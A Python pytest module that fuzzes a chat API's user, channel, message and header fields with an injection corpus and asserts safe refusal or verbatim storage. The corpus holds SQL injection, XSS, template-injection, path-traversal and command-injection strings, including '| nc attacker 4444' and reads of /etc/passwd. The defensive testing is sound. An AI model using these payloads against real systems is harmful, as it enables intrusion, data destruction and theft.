"""An injection corpus sent into every string field of every write endpoint.

SQL, script, template, path-traversal, command, CRLF and Unicode tricks and oversized
numbers: each is either refused with a problem document that does not echo it, or
stored and returned exactly as sent (names in NFC), never executed and never a 5xx.
The database is intact afterwards.
"""

from __future__ import annotations

import unicodedata
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from tests.support.tenants import Tenant, User

CORPUS = [
    # SQL
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    '" OR ""="',
    "1; SELECT pg_sleep(5)--",
    "1' AND (SELECT 1 FROM (SELECT SLEEP(5))x)--",
    "admin'/*",
    "1 UNION SELECT name, sql FROM sqlite_master--",
    "\\'; DELETE FROM messages; --",
    # markup and script
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    # templates
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    # path traversal
    "../../../../etc/passwd",
    "..%2F..%2Fetc%2Fpasswd",
    "..\\..\\windows\\win.ini",
    # command injection
    "; cat /etc/passwd",
    "$(id)",
    "`id`",
    "| nc attacker 4444",
    # CRLF and log forging
    "line\r\nX-Injected: 1",
    'x\n{"level":"error","event":"forged"}',
    # Unicode tricks
    "admin\u202egnp.exe",
    "a\u200bd\u200cm\u200din",
    "\ufeffBOM",
    "Zalgo" + "\u0336" * 12,
    "e\u0301",
    "\U0001f469\u200d\U0001f4bb",
    "\uff41\uff44\uff4d\uff49\uff4e",  # fullwidth
    # numbers and sizes
    "99999999999999999999999999999999999999",
    "-1",
    "1e309",
    "NaN",
    "x" * 5000,
]

HEADER_SAFE = [p for p in CORPUS if p.isascii() and "\r" not in p and "\n" not in p]
"""The payloads HTTP can carry in a header value at all."""


def _check(response: httpx.Response, sent: str, returned: str | None = None) -> None:
    """No 5xx; a refusal is problem+json not echoing the input; an acceptance is exact."""
    assert response.status_code < 500, response.text
    if response.is_success:
        if returned is not None:
            assert returned in (sent, unicodedata.normalize("NFC", sent.strip()))
        return
    assert response.headers["content-type"].startswith("application/problem+json")
    if len(sent) > 3 and not sent.isalnum():
        assert sent not in response.text


async def _people(tenant: Tenant) -> tuple[User, User, str, str]:
    alice, bob = await tenant.user("alice"), await tenant.user("bob")
    channel = await tenant.channel(alice, [bob])
    message = await tenant.send(alice, channel["id"], "seed")
    return alice, bob, str(channel["id"]), str(message["id"])


@pytest.mark.parametrize("payload", CORPUS)
async def test_user_fields(http: httpx.AsyncClient, tenant: Tenant, payload: str) -> None:
    """external_id and display_name on create, display_name on update, lookups by query."""
    headers = await tenant.backend_headers()
    for body, field in (
        ({"external_id": "ok-id", "display_name": payload}, "display_name"),
        ({"external_id": payload, "display_name": "ok"}, "external_id"),
    ):
        response = await http.post("/v1/users", json=body, headers=headers)
        _check(response, payload, response.json().get(field) if response.is_success else None)
        if response.is_success:
            user_id = response.json()["id"]
            patched = await http.patch(
                f"/v1/users/{user_id}", json={"display_name": payload}, headers=headers
            )
            _check(
                patched, payload, patched.json().get("display_name") if patched.is_success else None
            )
            await http.post(f"/v1/users/{user_id}/deactivation", headers=headers)
            fetched = await http.get(f"/v1/users/{user_id}", headers=headers)
            assert fetched.status_code == 200
    looked_up = await http.get("/v1/users", params={"external_id": payload[:255]}, headers=headers)
    _check(looked_up, payload)
    by_path = await http.get(f"/v1/users/{quote(payload, safe='')}", headers=headers)
    _check(by_path, payload)
    assert by_path.status_code in (400, 404, 414)


@pytest.mark.parametrize("payload", CORPUS)
async def test_channel_fields(http: httpx.AsyncClient, tenant: Tenant, payload: str) -> None:
    """name and description on create and update; channel ids in paths."""
    alice, bob, channel_id, _message_id = await _people(tenant)
    body: dict[str, Any] = {"type": "group", "name": payload, "description": payload}
    created = await http.post("/v1/channels", json=body, headers=alice.headers)
    _check(created, payload, created.json().get("name") if created.is_success else None)
    if created.is_success:
        assert created.json()["description"] == payload
    for field in ("name", "description"):
        patched = await http.patch(
            f"/v1/channels/{channel_id}", json={field: payload}, headers=alice.headers
        )
        _check(patched, payload, patched.json().get(field) if patched.is_success else None)
    member = await http.post(
        f"/v1/channels/{channel_id}/members", json={"user_id": payload}, headers=alice.headers
    )
    _check(member, payload)
    assert not member.is_success
    path = await http.get(f"/v1/channels/{quote(payload, safe='')}", headers=bob.headers)
    _check(path, payload)
    assert not path.is_success


@pytest.mark.parametrize("payload", CORPUS)
async def test_message_fields(http: httpx.AsyncClient, tenant: Tenant, payload: str) -> None:
    """text (sent and edited), client_msg_id, reactions: stored raw, HTML never live."""
    alice, bob, channel_id, message_id = await _people(tenant)
    sent = await http.post(
        f"/v1/channels/{channel_id}/messages", json={"text": payload}, headers=alice.headers
    )
    _check(sent, payload, sent.json().get("text") if sent.is_success else None)
    if sent.is_success:
        html = sent.json()["html"]
        assert "<script" not in html
        assert "<img" not in html
        assert "<svg" not in html
        assert 'href="javascript' not in html
        again = await http.get(f"/v1/messages/{sent.json()['id']}", headers=bob.headers)
        assert again.json()["text"] == payload
    retried = await http.post(
        f"/v1/channels/{channel_id}/messages",
        json={"text": "t", "client_msg_id": payload},
        headers=alice.headers,
    )
    _check(retried, payload, retried.json().get("client_msg_id") if retried.is_success else None)
    edited = await http.patch(
        f"/v1/messages/{message_id}", json={"text": payload}, headers=alice.headers
    )
    _check(edited, payload, edited.json().get("text") if edited.is_success else None)
    reaction = await http.put(
        f"/v1/messages/{message_id}/reactions/{quote(payload, safe='')}", headers=bob.headers
    )
    _check(reaction, payload)
    read = await http.put(
        f"/v1/channels/{channel_id}/read", json={"message_id": payload}, headers=bob.headers
    )
    _check(read, payload)


@pytest.mark.parametrize("payload", HEADER_SAFE)
async def test_headers(http: httpx.AsyncClient, tenant: Tenant, payload: str) -> None:
    """Idempotency-Key, If-Match and X-Request-Id carrying the corpus (where HTTP allows)."""
    headers = await tenant.backend_headers()
    created = await http.post(
        "/v1/users",
        json={"external_id": "hdr", "display_name": "h"},
        headers={**headers, "Idempotency-Key": payload, "X-Request-Id": payload},
    )
    _check(created, payload)
    assert created.headers["x-request-id"] != payload or payload.isalnum()
    if created.is_success:
        user_id = created.json()["id"]
        patched = await http.patch(
            f"/v1/users/{user_id}",
            json={"display_name": "x"},
            headers={**headers, "If-Match": payload},
        )
        _check(patched, payload)


async def test_the_database_is_intact_afterwards(http: httpx.AsyncClient, tenant: Tenant) -> None:
    """After the corpus, tables still exist and hold exactly what was written."""
    alice, _bob, channel_id, _message_id = await _people(tenant)
    for payload in CORPUS[:8]:
        await tenant.send(alice, channel_id, payload)
    page = await http.get(
        f"/v1/channels/{channel_id}/messages", params={"limit": 20}, headers=alice.headers
    )
    assert [m["text"] for m in page.json()["data"]] == ["seed", *CORPUS[:8]]
    users = await http.get("/v1/users", headers=await tenant.backend_headers())
    assert len(users.json()["data"]) == 2
